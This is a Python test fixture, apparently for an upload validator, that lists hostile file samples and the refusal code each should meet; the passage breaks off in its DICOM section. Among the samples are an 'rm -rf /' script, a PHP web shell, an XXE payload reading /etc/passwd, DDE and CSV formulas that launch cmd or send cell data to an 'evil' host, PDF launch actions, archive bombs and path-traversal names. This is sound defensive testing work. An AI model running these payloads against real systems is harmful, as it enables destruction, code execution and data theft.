"""Hostile uploads as a table (reliability Q7): a name, a content, and the code of the refusal it must meet."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.foundation.files import samples as s
from yihe.foundation.files.signatures import EICAR
from yihe.foundation.files.terms import FORMATS, Kind

TEXTUAL = {Kind.TXT, Kind.CSV}
ARCHIVES = {Kind.DOCX, Kind.XLSX}
BINARY = [kind for kind in Kind if kind not in TEXTUAL]
WORD = f"{s.OFFICE}.wordprocessingml.document.main+xml"


@dataclass(frozen=True)
class Hostile:
    """One row; what says which trick it is."""

    what: str
    name: str
    content: bytes
    code: str


PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode"
ZIP = s.archive({"payload.exe": PROGRAM})
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

# What each stranger begins with.
STRANGERS = {
    "Windows program": PROGRAM,
    "Linux program": b"\x7fELF\x02\x01\x01" + bytes(64),
    "macOS program": b"\xcf\xfa\xed\xfe" + bytes(64),
    "Java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32),
    "Android code": b"dex\n035\x00" + bytes(64),
    "WebAssembly": b"\x00asm\x01\x00\x00\x00" + bytes(32),
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(64),
    "old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "zip archive": ZIP,
    "RAR archive": b"Rar!\x1a\x07\x01\x00" + bytes(64),
    "7z archive": b"7z\xbc\xaf\x27\x1c" + bytes(64),
    "gzip archive": b"\x1f\x8b\x08\x00" + bytes(64),
    "bzip2 archive": b"BZh91AY&SY" + bytes(64),
    "xz archive": b"\xfd7zXZ\x00" + bytes(64),
    "cabinet": b"MSCF" + bytes(64),
    "Flash film": b"CWS\x0a" + bytes(64),
    "RTF document": b"{\\rtf1{\\object\\objdata 0105}}",
    "PostScript program": b"%!PS-Adobe-3.0\n(x) run",
    "GIF picture": b"GIF89a" + bytes(64),
    "database": b"SQLite format 3\x00" + bytes(64),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "internet shortcut": b"[InternetShortcut]\nURL=file://evil/x\n",
    "autorun file": b"[autorun]\nopen=evil.exe\n",
    "SYLK table": b'ID;PWXL;N;E\nC;Y1;X1;EEXEC("calc")\n',
    "web page": PAGE,
    "web page behind blanks": b"\n\n   \t" + PAGE,
    "page that begins late": b"x" * 500 + b"<script>alert(1)</script>",
    "page in UTF-16": "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
    "drawing with a script": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "PHP script": b"<?php system($_GET['c']); ?>",
    "XML with entities": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "style sheet transformation": b'<xsl:stylesheet version="1.0"/>',
    "HTML application": b"<hta:application id=x>",
}

BAD_NAMES = {
    "empty": "",
    "blanks only": "   ",
    "dots only": "...",
    "no extension": "报告",
    "extension only": ".pdf",
    "hidden file": ".病历.pdf",
    "too long": "长" * 150 + ".pdf",
    "far too long": "a" * 5000 + ".pdf",
    "null byte": "a\x00.pdf",
    "null byte before another extension": "a.php\x00.pdf",
    "line feed": "a\nb.pdf",
    "carriage return": "a\rSet-Cookie: x.pdf",
    "tab": "a\tb.pdf",
    "escape": "a\x1b[31m.pdf",
    "delete": "a\x7f.pdf",
    "C1 control": "a\x9b.pdf",
    "right-to-left override": "报告\u202efdp.pdf",
    "right-to-left embedding": "报告\u202b.pdf",
    "left-to-right override": "报告\u202d.pdf",
    "right-to-left isolate": "报告\u2067.pdf",
    "pop of direction": "报告\u202c.pdf",
    "right-to-left mark": "报告\u200f.pdf",
    "Arabic letter mark": "报告\u061c.pdf",
    "zero width space": "报\u200b告.pdf",
    "zero width joiner": "报\u200d告.pdf",
    "byte order mark": "\ufeff报告.pdf",
    "soft hyphen": "报\u00ad告.pdf",
    "line separator": "报\u2028告.pdf",
    "half of a pair": "报\ud800告.pdf",
    "non-character": "报\uffff告.pdf",
    "tag character": "报\U000e0041告.pdf",
    "back slash": "a\\b.pdf",
    "drive": "C:报告.pdf",
    "alternate stream": "报告.pdf:evil.pdf",
    "wildcard": "*.pdf",
    "question mark": "a?.pdf",
    "quote": 'a"; filename=x.exe; ".pdf',
    "angle brackets": "<img src=x onerror=alert(1)>.pdf",
    "pipe": "a|calc.pdf",
    "parent folder": "...pdf",
    "two dots inside": "a..b.pdf",
    "escaped path": "..%2f..%2fetc%2fpasswd.pdf",
    "escaped back slash": "a%5cb.pdf",
    "escaped null": "a%00.pdf",
    "escaped line": "a%0d%0ab.pdf",
    "trailing dot": "报告.pdf.",
    "trailing blank": "报告.pdf ",
    "blanks that push the end out of sight": "报告.pdf" + " " * 60 + ".pdf",
    "device": "CON.pdf",
    "device with a number": "com1.pdf",
    "device in small letters": "nul.pdf",
    "printer": "LPT9.pdf",
}
FOREIGN = """exe com bat cmd ps1 vbs js jse wsf hta scr pif cpl msi dll jar apk app dmg sh py pl rb php phtml php5 asp
aspx jsp cgi html htm xhtml shtml mht svg svgz xml xsl swf doc docm dot dotm dotx xls xlsm xlsb xlam xltm ppt rtf odt
zip rar 7z gz tar bz2 xz cab iso img vhd lnk url website desktop scf reg inf chm msg eml one gif bmp heic mov avi mkv ps
eps ai torrent sql db bin ofd""".split()
DOUBLE = "exe bat cmd js vbs ps1 php phtml html svg jsp aspx sh scr lnk hta jar docm xlsm".split()


def table() -> Iterator[Hostile]:
    """Give every row."""
    for part in (
        names(), disguises(), sizes(), documents(), packed_documents(), pictures(), scans(), offices(),
        archives(), texts(), sounds(), films(), medical_images(), stowaways(),
    ):  # fmt: skip
        yield from part


def names() -> Iterator[Hostile]:
    """Names that deceive readers or systems, with a good PDF behind them."""
    for what, name in BAD_NAMES.items():
        code = {"no extension": "file_kind"}.get(what, "file_name")
        yield Hostile(f"name: {what}", name, s.PLAIN[Kind.PDF], code)
    for extension in FOREIGN:
        yield Hostile(f"extension .{extension}", f"报告.{extension}", s.PLAIN[Kind.PDF], "file_kind")
    for hidden in DOUBLE:
        yield Hostile(
            f"double extension .{hidden}.pdf", f"报告.{hidden}.pdf", s.PLAIN[Kind.PDF], "file_name_double"
        )
    yield Hostile("double extension in capitals", "报告.PhP.pdf", s.PLAIN[Kind.PDF], "file_name_double")
    yield Hostile("double extension with a blank", "报告.exe .pdf", s.PLAIN[Kind.PDF], "file_name_double")
    yield Hostile("the other way round", "报告.pdf.exe", s.PLAIN[Kind.PDF], "file_kind")
    yield Hostile("extension in full-width letters", "报告.ｐｄｆ", s.PLAIN[Kind.PDF], "file_kind")
    yield Hostile("a dot that is none", "报告\u2024pdf", s.PLAIN[Kind.PDF], "file_kind")
    yield Hostile("a Cyrillic letter in the extension", "报告.\u0440df", s.PLAIN[Kind.PDF], "file_kind")


def disguises() -> Iterator[Hostile]:
    """Strangers under the names of a document, a photo and a text, and each kind under the name of another."""
    for what, content in STRANGERS.items():
        yield Hostile(f"{what} as a PDF", "病历.pdf", content, "file_content")
        yield Hostile(f"{what} as a photo", "照片.jpg", content, "file_content")
        yield Hostile(f"{what} as a text", "陈述.txt", content, "file_content")
    for claimed, real in zip(BINARY, BINARY[3:] + BINARY[:3], strict=True):
        name = f"材料.{FORMATS[claimed].extensions[0]}"
        yield Hostile(f"{real} as {claimed}", name, s.PLAIN[real], "file_content")


def sizes() -> Iterator[Hostile]:
    """Nothing, a part, or a virus, in every kind."""
    for kind in Kind:
        name, content = f"材料.{FORMATS[kind].extensions[0]}", s.PLAIN[kind]
        yield Hostile(f"empty {kind}", name, b"", "file_empty")
        yield Hostile(f"test virus behind {kind}", name, content + EICAR, "file_malware")
        if kind in TEXTUAL | {Kind.MP3}:
            continue
        yield Hostile(f"{kind} cut by its last third", name, content[: len(content) * 2 // 3], "file_cut_off")
        yield Hostile(f"{kind} without its last bytes", name, content[:-7], "file_cut_off")
        yield Hostile(f"{kind} of six bytes", name, content[:6], _stub(kind))


def _stub(kind: Kind) -> str:
    return "file_cut_off" if kind in ARCHIVES | {Kind.JPEG, Kind.TIFF} else "file_content"


def documents() -> Iterator[Hostile]:
    """PDF: everything that acts, sends, fetches, attaches, encrypts or hides."""
    acting = {
        "script": b"<</S/JavaScript/JS(app.alert(1))>>",
        "script of another spelling": b"<</S/JavaScr#69pt/J#53(app.alert(1))>>",
        "script by a rendition": b"<</S/Named/JS 9 0 R>>",
        "script at opening": b"<</OpenAction<</S/JavaScript/JS 9 0 R>>>>",
        "script over lines": b"<</S\n/JavaScript\n/JS(x)>>",
        "program start": b"<</S/Launch/F(cmd.exe)>>",
        "program start spelt out": b"<</S/#4c#61#75#6e#63#68/F(cmd.exe)>>",
        "form that is sent": b"<</S/SubmitForm/F(http://evil)>>",
        "form data fetched": b"<</S/ImportData/F(\\\\\\\\evil\\\\x)>>",
        "dynamic form": b"<</AcroForm<</XFA 9 0 R>>>>",
        "rich media": b"<</Subtype/RichMedia>>",
        "rendition": b"<</S/Rendition/OP 0>>",
        "model in 3D": b"<</Subtype/3D/3DD 9 0 R>>",
        "attached file": s.stream(b"/Type/EmbeddedFile", ZIP),
        "attached files by name": b"<</Names<</EmbeddedFiles 9 0 R>>>>",
    }
    for what, content in acting.items():
        yield Hostile(f"PDF with {what}", "报告.pdf", s.pdf(content), "file_active")
    for what, content in {
        "jump to another file": b"<</S/GoToR/F(\\\\\\\\evil\\\\share)>>",
        "jump into an attachment": b"<</S/GoToE/T<<>>>>",
    }.items():
        yield Hostile(f"PDF with {what}", "报告.pdf", s.pdf(content), "file_external")
    yield Hostile("PDF with a password", "报告.pdf", s.pdf(trailer=b"/Encrypt 9 0 R"), "file_encrypted")
    good = s.pdf()
    yield Hostile("PDF behind a page", "报告.pdf", PAGE + good, "file_content")
    yield Hostile("PDF behind one byte", "报告.pdf", b"\x00" + good, "file_content")
    yield Hostile("PDF of no version", "报告.pdf", good.replace(b"%PDF-1.7", b"%PDF-x.y"), "file_content")
    yield Hostile("PDF before a page", "报告.pdf", good + PAGE, "file_two_kinds")
    yield Hostile("PDF before a program", "报告.pdf", good + PROGRAM, "file_two_kinds")
    yield Hostile(
        "PDF with a page in a comment", "报告.pdf", good.replace(b"%\xe2", b"%" + PAGE), "file_two_kinds"
    )
    yield Hostile(
        "PDF without the place of its table", "报告.pdf", good.replace(b"startxref", b"x"), "file_cut_off"
    )


def packed_documents() -> Iterator[Hostile]:
    """PDF: the same, hidden in compressed objects; and objects that unfold without end."""
    for what, hidden in {
        "script": b"<</JS(x)>>",
        "program start": b"<</S/Launch>>",
        "files": b"<</EmbeddedFiles 1 0 R>>",
    }.items():
        yield Hostile(f"PDF with packed {what}", "报告.pdf", s.pdf(s.objects_stream(hidden)), "file_active")
    jump = s.objects_stream(b"<</S/GoToR>>")
    yield Hostile("PDF with a packed jump", "报告.pdf", s.pdf(jump), "file_external")
    odd = s.stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", zlib.compress(b"x").hex().encode())
    yield Hostile("PDF packed in an odd way", "报告.pdf", s.pdf(odd), "file_active")
    guessed = s.stream(b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", zlib.compress(b"x"))
    yield Hostile("PDF packed with a predictor", "报告.pdf", s.pdf(guessed), "file_active")
    broken = s.stream(b"/Type/ObjStm/Filter/FlateDecode", b"not packed at all")
    yield Hostile("PDF with broken packing", "报告.pdf", s.pdf(broken), "file_damaged")
    bomb = s.stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(bytes(70 * 1024 * 1024), 9))
    yield Hostile("PDF that unfolds without end", "报告.pdf", s.pdf(bomb), "file_bomb")


def pictures() -> Iterator[Hostile]:
    """PNG, JPEG and WebP: bombs, broken chains, things behind the end."""
    good = s.png()
    flipped = bytearray(good)
    flipped[50] ^= 1
    rows = {
        "PNG with a flipped bit": (bytes(flipped), "file_damaged"),
        "PNG of a hundred thousand by a hundred thousand": (
            s.png(width=100_000, height=100_000),
            "file_bomb",
        ),
        "PNG without size": (s.png(width=0), "file_damaged"),
        "PNG without picture": (good[:33] + s.chunk(b"IEND", b""), "file_damaged"),
        "PNG without head": (good[:8] + good[33:], "file_damaged"),
        "PNG with an unknown critical chunk": (s.png(s.chunk(b"EVIL", b"x")), "file_damaged"),
        "PNG with a chunk without name": (s.png(s.chunk(b"\x00\x01\x02\x03", b"")), "file_damaged"),
        "PNG of a million chunks": (s.png(s.chunk(b"tEXt", b"") * 200_001), "file_bomb"),
        "PNG with a page in a comment": (s.png(s.chunk(b"tEXt", PAGE)), "file_two_kinds"),
        "PNG with a PDF in a comment": (s.png(s.chunk(b"tEXt", s.pdf())), "file_two_kinds"),
        "PNG before a page": (s.png(after=PAGE), "file_two_kinds"),
        "PNG before one byte": (s.png(after=b"x"), "file_two_kinds"),
    }
    for what, (content, code) in rows.items():
        yield Hostile(what, "图.png", content, code)
    notes = s.segment(0xFE, PAGE)
    rows = {
        "JPEG of 65,000 by 65,000": (s.jpeg(width=65_000, height=65_000), "file_bomb"),
        "JPEG with a page in a comment": (s.jpeg(notes), "file_two_kinds"),
        "JPEG with PHP in its notes": (
            s.jpeg(s.segment(0xE1, b"Exif\x00\x00<?php eval(1)")),
            "file_two_kinds",
        ),
        "JPEG with a PDF in a comment": (s.jpeg(s.segment(0xFE, s.pdf())), "file_two_kinds"),
        "JPEG before a page": (s.jpeg() + PAGE, "file_two_kinds"),
        "JPEG before a program": (s.jpeg() + PROGRAM, "file_two_kinds"),
        "JPEG before a RAR archive": (s.jpeg() + STRANGERS["RAR archive"], "file_two_kinds"),
        "JPEG without picture": (b"\xff\xd8" + s.segment(0xE0, b"JFIF\x00") + b"\xff\xd9", "file_damaged"),
        "JPEG with noise between segments": (s.jpeg(b"noise"), "file_damaged"),
        "JPEG with a segment of length zero": (s.jpeg(b"\xff\xe2\x00\x00"), "file_damaged"),
        "JPEG with a segment beyond its end": (s.jpeg(b"\xff\xe2\xff\xff"), "file_cut_off"),
        "JPEG of a million segments": (s.jpeg(s.segment(0xEF, b"") * 200_001), "file_bomb"),
    }
    for what, (content, code) in rows.items():
        yield Hostile(what, "照片.jpg", content, code)
    for what, content, code in (
        ("WebP without picture", s.riff(b"WEBP", (b"EXIF", b"x" * 8)), "file_damaged"),
        ("WebP with a chunk beyond its end", s.webp().replace(b"\x11\x00", b"\x99\x00"), "file_damaged"),
        ("WebP before a page", s.webp() + PAGE, "file_two_kinds"),
        (
            "WebP with a page in its notes",
            s.riff(b"WEBP", (b"XMP ", PAGE), (b"VP8L", bytes(8))),
            "file_two_kinds",
        ),
    ):
        yield Hostile(what, "图.webp", content, code)


def scans() -> Iterator[Hostile]:
    """TIFF: directories that loop, point outside, or claim too much."""
    good = s.tiff()
    loop = good[:-4] + struct.pack("<L", 24)
    rows = {
        "TIFF whose pages run in a circle": (loop, "file_damaged"),
        "TIFF without a page": (b"II*\x00" + bytes(4), "file_damaged"),
        "TIFF whose directory lies outside": (b"II*\x00\xff\xff\xff\x00", "file_cut_off"),
        "TIFF with an empty directory": (b"II*\x00\x08\x00\x00\x00" + bytes(6), "file_damaged"),
        "TIFF with a giant directory": (b"II*\x00\x08\x00\x00\x00\xff\xff" + bytes(64), "file_damaged"),
        "TIFF whose picture lies outside": (s.tiff(strip=(10_000, 16)), "file_cut_off"),
        "TIFF whose picture is too long": (s.tiff(strip=(24, 10_000)), "file_cut_off"),
        "TIFF without size": (s.tiff(width=0), "file_damaged"),
        "TIFF with a page in it": (good + PAGE, "file_two_kinds"),
        "TIFF with an endless entry": (_endless_entry(), "file_damaged"),
        "TIFF of a giant picture": (_giant_scan(), "file_bomb"),
    }
    for what, (content, code) in rows.items():
        yield Hostile(what, "病历.tif", content, code)


def _endless_entry() -> bytes:
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<HHHLLL", 1, 273, 4, 0x7FFFFFFF, 8, 0)


def _giant_scan() -> bytes:
    rows = b"".join(struct.pack("<HHLL", tag, 4, 1, value) for tag, value in ((256, 90_000), (257, 90_000)))
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 2) + rows + bytes(4)


def offices() -> Iterator[Hostile]:
    """Word and Excel: macros, controls, objects, outside parts, fields and formulas that start programs."""
    macro = s.content_types(WORD, "application/vnd.ms-office.vbaProject")
    enabled = s.content_types("application/vnd.ms-word.document.macroEnabled.main+xml")
    word: dict[str, tuple[dict[str, bytes], str]] = {
        "macros": ({"word/vbaProject.bin": bytes(64)}, "file_active"),
        "macros under another name": ({s.CONTENT_TYPES: macro}, "file_active"),
        "macros enabled": ({s.CONTENT_TYPES: enabled}, "file_active"),
        "a control": ({"word/activeX/activeX1.xml": b"<ax/>"}, "file_active"),
        "an embedded object": ({"word/embeddings/oleObject1.bin": bytes(64)}, "file_active"),
        "an embedded program": ({"word/embeddings/a.exe": PROGRAM}, "file_active"),
        "a relation to an object": (
            {"word/_rels/x.rels": s.relations(("oleObject", "a.xml", False))},
            "file_active",
        ),
        "a custom ribbon": ({"customUI/customUI.xml": b"<customUI/>"}, "file_active"),
        "a web add-in": ({"word/webextensions/webextension1.xml": b"<we/>"}, "file_active"),
        "a DDE field": ({"word/f.xml": b"<p><instrText>DDEAUTO c:\\cmd.exe</instrText></p>"}, "file_active"),
        "a DDE field in pieces": (
            {"word/f.xml": b"<p><instrText>DDE</instrText><instrText>AUTO cmd</instrText></p>"},
            "file_active",
        ),
        "a simple DDE field": (
            {"word/f.xml": b'<w xmlns:w="w"><w:fldSimple w:instr="DDE cmd"/></w>'},
            "file_active",
        ),
        "a script in a drawing": ({"word/media/a.svg": b"<svg><script>1</script></svg>"}, "file_active"),
        "a template from elsewhere": (
            _leading_out("attachedTemplate", "https://evil/x.dotm"),
            "file_external",
        ),
        "a picture from elsewhere": (_leading_out("image", "https://evil/x.png"), "file_external"),
        "a frame from elsewhere": (_leading_out("frame", "https://evil/x"), "file_external"),
        "an object from elsewhere": (_leading_out("subDocument", "file://evil/x.docx"), "file_external"),
        "a link to a share": (_leading_out("hyperlink", "\\\\evil\\share"), "file_external"),
        "a link to a share with slashes": (_leading_out("hyperlink", "//evil/share"), "file_external"),
        "a link to a file": (_leading_out("hyperlink", "file:///c:/x"), "file_external"),
        "a link to a script": (_leading_out("hyperlink", "javascript:alert(1)"), "file_external"),
        "a link to a protocol": (_leading_out("hyperlink", "ms-msdt:/id"), "file_external"),
        "a part that says it is inside": (
            {"word/_rels/x.rels": s.relations(("image", "https://evil/x.png", False))},
            "file_external",
        ),
        "entities": ({"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}, "file_external"),
        "entities in UTF-16": (
            {"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><x/>'.encode("utf-16")},
            "file_external",
        ),
        "broken XML": ({"word/document.xml": b"<w:document>"}, "file_damaged"),
        "a program as a picture": ({"word/media/image1.png": PROGRAM}, "file_two_kinds"),
        "an archive as a picture": ({"word/media/image1.png": ZIP}, "file_two_kinds"),
        "a test virus as a picture": ({"word/media/image1.png": b"x" + EICAR}, "file_malware"),
        "a packed test virus": ({"word/media/a.bmp": EICAR * 2}, "file_malware"),
        "a page as a part": ({"word/a.html": PAGE}, "file_two_kinds"),
        "a script as a part": ({"word/a.js": b"alert(1)"}, "file_two_kinds"),
        "a document in a document in a document": (
            {"word/embeddings/a.docx": s.docx({"word/embeddings/b.docx": s.docx()})},
            "file_two_kinds",
        ),
        "a document with macros inside": (
            {"word/embeddings/a.docx": s.archive({"word/vbaProject.bin": b"x"})},
            "file_active",
        ),
        "a main part of another kind": ({s.CONTENT_TYPES: s.content_types("text/plain")}, "file_content"),
    }
    for what, (changed, code) in word.items():
        yield Hostile(f"Word document with {what}", "说明.docx", s.docx(changed), code)
    excel: dict[str, tuple[dict[str, bytes], str]] = {
        "a macro sheet": ({"xl/macrosheets/sheet1.xml": b"<xm/>"}, "file_active"),
        "macros": ({"xl/vbaProject.bin": bytes(64)}, "file_active"),
        "a data connection": ({"xl/connections.xml": b"<connections/>"}, "file_active"),
        "a query": ({"xl/queryTables/queryTable1.xml": b"<q/>"}, "file_active"),
        "a link to another workbook": ({"xl/externalLinks/externalLink1.xml": b"<e/>"}, "file_active"),
        "a DDE link": ({"xl/x.xml": b"<ddeLink ddeService='cmd'/>"}, "file_active"),
        "a formula that starts a program": ({"xl/s.xml": s.sheet("cmd|'/c calc'!A0")}, "file_active"),
        "a dialogue sheet": ({"xl/dialogsheets/sheet1.xml": b"<d/>"}, "file_active"),
        "an old control": ({"xl/activeX/activeX1.bin": bytes(8)}, "file_active"),
    }
    for what, (changed, code) in excel.items():
        yield Hostile(f"workbook with {what}", "表.xlsx", s.xlsx(changed), code)
    yield Hostile("workbook as a document", "表.docx", s.xlsx(), "file_content")
    yield Hostile("document as a workbook", "说明.xlsx", s.docx(), "file_content")


def _leading_out(kind: str, target: str) -> dict[str, bytes]:
    return {"word/_rels/out.xml.rels": s.relations((kind, target, True))}


def archives() -> Iterator[Hostile]:
    """The zip around an Office document: bombs, overlaps, links, paths, passwords, lies about itself."""
    plain = s.docx_parts()
    good = s.archive(plain)
    many = plain | {f"word/media/{number}.xml": b"" for number in range(5_001)}
    yield from (
        Hostile(what, "说明.docx", content, code)
        for what, content, code in (
            ("bomb of one part", s.docx({"word/big.xml": bytes(60 * 1024 * 1024)}), "file_bomb"),
            ("bomb of many parts", s.archive(many), "file_bomb"),
            ("bomb in all", _swollen(), "file_bomb"),
            ("parts that overlap", _overlapping(good), "file_bomb"),
            ("bomb that hides its size", _lying_about_size(), "file_damaged"),
            ("archive that is no document", ZIP, "file_two_kinds"),
            ("archive of one text", s.archive({"a.xml": b"<a/>"}), "file_content"),
            ("archive of nothing", b"PK\x05\x06" + bytes(18), "file_content"),
            ("archive with a password", _with_flag(good, 0x01), "file_encrypted"),
            ("archive with strong encryption", _with_flag(good, 0x40), "file_encrypted"),
            ("archive with a comment", good[:-2] + b"\x04\x00evil", "file_two_kinds"),
            ("archive behind a stub", b"PK\x03\x04" + PROGRAM + good, "file_damaged"),
            ("archive before a page", good + PAGE, "file_two_kinds"),
            ("two archives", good + good, "file_damaged"),
            ("a part that leaves its folder", s.docx({"word/../../evil.xml": b"<a/>"}), "file_damaged"),
            ("a part at the root", s.docx({"/etc/passwd.xml": b"<a/>"}), "file_damaged"),
            ("a part on a drive", s.docx({"C:/evil.xml": b"<a/>"}), "file_damaged"),
            ("a part with a back slash", s.docx({"word\\evil.xml": b"<a/>"}), "file_damaged"),
            ("a part with a turned name", s.docx({"word/\u202elmx.xml": b"<a/>"}), "file_damaged"),
            ("two parts of one name", _twice("word/document.xml"), "file_damaged"),
            ("two parts that differ in case", s.docx({"WORD/Document.xml": b"<a/>"}), "file_damaged"),
            ("a link", _link(), "file_damaged"),
            ("a rare compression", s.archive(plain, method=zipfile.ZIP_LZMA), "file_damaged"),
            (
                "a wrong checksum",
                s.archive(plain, method=zipfile.ZIP_STORED).replace(b"GIF89a", b"GIF87a"),
                "file_damaged",
            ),
            (
                "a directory that points elsewhere",
                good[:-6] + b"\x01\x00\x00\x00" + good[-2:],
                "file_damaged",
            ),
        )
    )


def _swollen() -> bytes:
    """Many parts, each just below what one may unfold to."""
    block = bytes(range(256)) * 4 * 1024
    return s.docx({f"word/{number}.xml": block for number in range(130)})


def _overlapping(good: bytes) -> bytes:
    """Let the directory name the first part again, under another name of the same length."""
    at = good.find(b"PK\x01\x02")
    end = good.find(b"PK\x01\x02", at + 4)
    row = good[at:end].replace(b"[Content_Types].xml", b"[Content_Typez].xml")
    count, size = struct.unpack("<HL", good[-12:-6])
    tail = struct.pack("<HHL", count + 1, count + 1, size + len(row)) + good[-6:]
    return good[:-22] + row + good[-22:-14] + tail


def _lying_about_size() -> bytes:
    """Claim ten bytes for a part of a million."""
    bomb = s.docx({"word/big.xml": b"<a>" + b" " * 1_000_000 + b"</a>"})
    return bomb.replace(struct.pack("<L", 1_000_007), struct.pack("<L", 10))


def _with_flag(good: bytes, flag: int) -> bytes:
    at = good.find(b"PK\x01\x02") + 8
    return good[:at] + bytes([good[at] | flag]) + good[at + 1 :]


def _twice(name: str) -> bytes:
    parts = s.docx_parts()
    out = s.archive(parts | {name[:-1] + "X": b"<a/>"})
    return out.replace((name[:-1] + "X").encode(), name.encode())


def _link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, data in s.docx_parts().items():
            packed.writestr(name, data)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def texts() -> Iterator[Hostile]:
    """Text and tables: control signs, strange codings, live formulas."""
    for what, content in {
        "a null byte": b"abc\x00def",
        "an escape sequence": b"abc\x1b[2Jdef",
        "a bell": b"abc\x07",
        "a backspace": b"rm\x08\x08ls",
        "an end of file": b"abc\x1adef",
        "C1 controls": "abc\x9bdef".encode(),
        "a non-character": "abc\uffffdef".encode(),
        "UTF-16": "陈述".encode("utf-16"),
        "bytes of no coding": b"\x81\xff\xfe\xfa\x80" * 40,
        "half a character at the end": "陈述".encode()[:-1] + b"\xff",
    }.items():
        yield Hostile(f"text with {what}", "陈述.txt", content, "file_text")
    yield Hostile("text of seventeen megabytes", "陈述.txt", b"a" * 17 * 1024 * 1024, "file_bomb")
    for what, cell in {
        "a command": "=cmd|'/C calc'!A0",
        "a command behind plus": "+cmd|'/C calc'!A0",
        "a command behind minus": "-2+3+cmd|'/C calc'!A0",
        "a function behind at": "@SUM(1+9)*cmd|'/C calc'!A0",
        "a link that tells": '=HYPERLINK("http://evil?"&A1)',
        "a web service": '=WEBSERVICE("http://evil")',
        "an import": '=IMPORTXML("http://evil","//a")',
        "a sum": "=1+1",
        "a full-width sign": "＝1+1",
        "a blank before": "  =1+1",
        "a tab before": "\t=1+1",
        "a quote before": '"=1+1"',
        "an apostrophe before": "'=1+1",
        "a doubled sign": "==1+1",
    }.items():
        yield Hostile(f"table with {what}", "表.csv", f"姓名,值\n张三,{cell}\n".encode(), "file_formula")
    yield Hostile("table that begins with a formula", "表.csv", b"=1+1,2", "file_formula")
    yield Hostile("table parted by semicolons", "表.csv", b"a;=1+1", "file_formula")
    yield Hostile("table in GB 18030", "表.csv", "姓名,=1+1".encode("gb18030"), "file_formula")
    yield Hostile("table with a null byte", "表.csv", b"a,b\x00", "file_text")


def sounds() -> Iterator[Hostile]:
    """MP3 and WAV: too few frames, chunks that lie, things behind the sound."""
    for what, content, code in (
        ("MP3 of one frame", s.mp3(1), "file_damaged"),
        ("MP3 of a tag only", s.mp3(0), "file_cut_off"),
        (
            "MP3 whose tag reaches beyond its end",
            b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(50),
            "file_cut_off",
        ),
        ("MP3 of noise behind a tag", s.mp3(0) + b"noise" * 50, "file_damaged"),
        ("MP3 before another file", s.mp3() + b"\x01" * 5000, "file_two_kinds"),
        ("MP3 before a zip archive", s.mp3() + ZIP, "file_two_kinds"),
        (
            "MP3 with a page in its tag",
            b"ID3\x04\x00\x00\x00\x00\x00\x35" + PAGE + s.mp3(tag=False),
            "file_two_kinds",
        ),
        ("MP3 whose frames have no rate", b"\xff\xfb\xf0\x00" * 200, "file_damaged"),
    ):
        yield Hostile(what, "录音.mp3", content, code)
    for what, content, code in (
        ("WAV without sound", s.riff(b"WAVE", (b"fmt ", bytes(16))), "file_damaged"),
        ("WAV without format", s.riff(b"WAVE", (b"data", bytes(16))), "file_damaged"),
        (
            "WAV with a short format",
            s.riff(b"WAVE", (b"fmt ", bytes(4)), (b"data", bytes(16))),
            "file_damaged",
        ),
        ("WAV of a million chunks", s.riff(b"WAVE", *[(b"junk", b"")] * 200_001), "file_bomb"),
        ("WAV before a page", s.wav() + PAGE, "file_two_kinds"),
        ("WAV with a page in it", s.riff(b"WAVE", (b"LIST", PAGE), (b"data", bytes(16))), "file_two_kinds"),
        ("WAV with a chunk beyond its end", s.wav().replace(b"data\xa0", b"data\xff"), "file_damaged"),
    ):
        yield Hostile(what, "录音.wav", content, code)


def films() -> Iterator[Hostile]:
    """MP4 and M4A: missing index, boxes that lie, strangers among the boxes."""
    head = s.box(b"ftyp", b"isom\x00\x00\x02\x00")
    for what, content, code in (
        ("film without an index", head + s.box(b"mdat", bytes(64)), "file_cut_off"),
        ("film without a film", head + s.box(b"moov", bytes(8)), "file_damaged"),
        ("film of another brand", s.film(b"evil"), "file_content"),
        ("photo of an iPhone as a film", s.film(b"heic"), "file_content"),
        ("film with a box beyond its end", s.film() + struct.pack(">L4s", 9999, b"free"), "file_cut_off"),
        ("film with a box of length three", s.film() + struct.pack(">L4s", 3, b"free"), "file_damaged"),
        ("film with a box of unknown kind", s.film(b"isom", s.box(b"evil", PROGRAM)), "file_two_kinds"),
        ("film before a page", s.film() + PAGE, "file_two_kinds"),
        ("film with a page in it", s.film(b"isom", s.box(b"free", PAGE)), "file_two_kinds"),
        ("film of a million boxes", s.film() + s.box(b"free") * 200_001, "file_bomb"),
    ):
        yield Hostile(what, "监控.mp4", content, code)
        yield Hostile(f"sound: {what}", "录音.m4a", content, code)


def medical_images() -> Iterator[Hostile]:
    """DICOM: programs in the preamble, wrapped documents, elements without end or order."""
    deep = s.element(0x00081155, b"UI", b"1.2\x00")
    for _ in range(20):
        deep = s.nested(0x00081140, deep)
    endless = s.element(0x00081140, b"SQ", b"", length=s.UNDEFINED)
    for what, content, code in (
        (
            "DICOM with a program in its preamble",
            s.dicom(preamble=PROGRAM.ljust(128, b"\x00")),
            "file_two_kinds",
        ),
